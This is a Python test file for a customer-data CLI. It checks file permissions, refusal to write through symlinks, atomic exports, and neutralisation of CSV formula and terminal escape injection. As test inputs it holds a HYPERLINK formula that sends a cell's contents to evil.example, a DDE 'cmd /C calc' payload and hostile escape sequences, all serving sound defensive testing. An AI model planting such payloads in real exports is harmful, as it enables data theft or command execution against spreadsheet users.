"""A desk holds customers' personal data: its files, the holder file and exports are its
owner's only, whatever the umask; the holder file is never written through a symbolic link;
an export replaces its target whole or not at all; a CSV export never hands a spreadsheet a
formula (OWASP: CSV injection)."""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_umask():
    """The most permissive umask: nothing it leaves out makes a file private."""
    previous = os.umask(0)
    yield
    os.umask(previous)


def test_desk_files_and_exports_are_the_owners_only_whatever_the_umask(run_cli, open_umask, tmp_path) -> None:
    assert run_cli("customer", "add", "Northwind Traders")[0] == 0
    for suffix in ("", ".log", ".lock", ".holder", ".index"):
        assert mode(Path(str(run_cli.db) + suffix)) == 0o600, suffix
    for fmt in ("json", "csv"):
        out = tmp_path / f"export.{fmt}"
        assert run_cli("export", "--format", fmt, "-o", str(out))[0] == 0
        assert mode(out) == 0o600


def test_a_new_data_folder_is_the_owners_only(run_cli, open_umask, tmp_path, monkeypatch) -> None:
    monkeypatch.delenv("WORKBENCH_DB")
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    assert run_cli("customer", "add", "Northwind Traders")[0] == 0
    folder = tmp_path / "data" / "case-workbench"
    assert mode(folder) == 0o700 and mode(folder / "desk.json") == 0o600


def test_the_holder_file_is_never_written_through_a_symbolic_link(run_cli, tmp_path) -> None:
    assert run_cli("customer", "add", "Northwind Traders")[0] == 0
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n" * 200)
    holder = Path(str(run_cli.db) + ".holder")
    holder.unlink()
    holder.symlink_to(victim)
    status, _, err = run_cli("customer", "add", "Contoso")
    assert status == 1 and str(holder) in err and "symbolic link" in err
    assert victim.read_text() == "precious\n" * 200


def test_an_empty_db_option_is_bad_input(run_cli) -> None:
    status, out, err = run_cli("customer", "list", "--db", "")
    assert status == 2 and "--db" in err and "empty" in err


def test_an_export_that_cannot_be_written_leaves_the_previous_one_whole(run_cli, tmp_path) -> None:
    """A full disk (here: a file-size limit of 4 KiB) fails the export with the path named;
    the previous export stays as it was instead of becoming a 4 KiB fragment."""
    assert run_cli("demo")[0] == 0
    out = tmp_path / "export.json"
    assert run_cli("export", "-o", str(out))[0] == 0
    previous = out.read_bytes()
    assert len(previous) > 4096

    def small_files() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))

    env = {**os.environ, "WORKBENCH_DB": str(run_cli.db)}
    done = subprocess.run(
        [sys.executable, "-m", "workbench", "export", "-o", str(out)],
        env=env,
        capture_output=True,
        text=True,
        preexec_fn=small_files,
        timeout=120,
    )
    assert done.returncode == 1 and str(out) in done.stderr and "Traceback" not in done.stderr
    assert out.read_bytes() == previous
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".export")) == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_export_neutralises_cells_a_spreadsheet_would_run(run_cli, start) -> None:
    name = f'{start}HYPERLINK("http://evil.example/?x="&A1)'
    assert run_cli("customer", "add", "--", name)[0] == 0
    subject = f"{start}cmd|' /C calc'!A0"
    assert run_cli("case", "new", "--vendor", "ontime", "--customer", "CUS-1", "--subject", subject)[0] == 0
    status, out, _ = run_cli("export", "--format", "csv")
    assert status == 0
    [row] = list(csv.DictReader(io.StringIO(out)))
    for cell, given in ((row["customer"], name), (row["subject"], subject)):
        kept = given.strip()  # the desk strips surrounding blanks from names and subjects
        assert cell == ("'" + kept if kept.startswith(("=", "+", "-", "@", "\t", "\r")) else kept)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    status, out, _ = run_cli("export", "--format", "json")
    document = json.loads(out)
    assert document["records"]["customers"][0]["name"] == name.strip()
    assert document["records"]["cases"][0]["subject"] == subject.strip()


HOSTILE = "Evil\x1b]0;pwned\x07 Corp\x1b[2J\x9b1m"
"""A customer name carrying an OSC title sequence, BEL, a CSI clear-screen and a C1 CSI."""


def _export_csv(db: Path, stdout: int) -> None:
    env = {**os.environ, "WORKBENCH_DB": str(db), "WORKBENCH_NOW": "2026-11-24T10:00+09:00"}
    done = subprocess.run(
        [sys.executable, "-m", "workbench", "export", "--format", "csv"],
        env=env, stdout=stdout, stderr=subprocess.PIPE, timeout=120, check=False,
    )
    assert done.returncode == 0, done.stderr


def test_a_csv_export_shown_on_a_terminal_escapes_control_characters(run_cli, tmp_path) -> None:
    """Control characters from the desk's data never reach a terminal raw, the CSV export
    included: on a terminal they are shown escaped; into a file the text stays exact."""
    assert run_cli("customer", "add", "--", HOSTILE)[0] == 0
    assert run_cli("case", "new", "--vendor", "ontime", "--customer", "CUS-1", "--subject", "=1+1")[0] == 0
    main, secondary = os.openpty()
    try:
        _export_csv(run_cli.db, secondary)
        os.close(secondary)
        shown = b""
        while True:
            try:
                block = os.read(main, 65536)
            except OSError:  # EIO: the terminal's other side is closed and drained
                break
            if not block:
                break
            shown += block
    finally:
        os.close(main)
    text = shown.decode()
    assert not any(c in text for c in "\x1b\x07\x9b"), text
    assert "Evil\\x1b]0;pwned\\x07 Corp\\x1b[2J\\x9b1m" in text and "'=1+1" in text
    target = tmp_path / "export.csv"
    with target.open("wb") as out:
        _export_csv(run_cli.db, out.fileno())
    [row] = list(csv.DictReader(io.StringIO(target.read_bytes().decode(), newline="")))
    assert row["customer"] == HOSTILE and row["subject"] == "'=1+1"
